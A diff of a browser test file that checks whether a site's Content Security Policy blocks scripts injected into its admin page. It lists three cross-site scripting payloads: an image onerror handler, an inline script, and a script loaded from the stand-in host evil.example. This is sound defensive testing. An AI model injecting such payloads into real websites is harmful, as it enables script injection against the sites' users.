@@ -80,18 +80,18 @@ def test_menus_and_panels_open(page: Page, person: User, refusals: list[str]) ->
     assert refusals == []
 
 
-def test_a_script_that_got_into_a_page_would_not_run(page: Page, refusals: list[str]) -> None:
+def test_a_script_that_got_into_a_page_would_not_run(page: Page) -> None:
     page.goto("/admin/")
-    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')")
-    page.evaluate(
-        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = true'}))"
+    intrusions = (
+        """document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')""",
+        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = true'}))",
+        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
     )
-    page.evaluate(
-        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))"
-    )
-    page.wait_for_function("performance.now() > 0")
+    for intrusion in intrusions:
+        # The handler is refused only when the image has failed.
+        with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
+            page.evaluate(intrusion)
     assert page.evaluate("window.ran") is None
-    assert len([refusal for refusal in refusals if "Content Security Policy" in refusal]) >= 3
 
 
 def test_a_web_app_that_opened_the_login_hears_how_it_went(
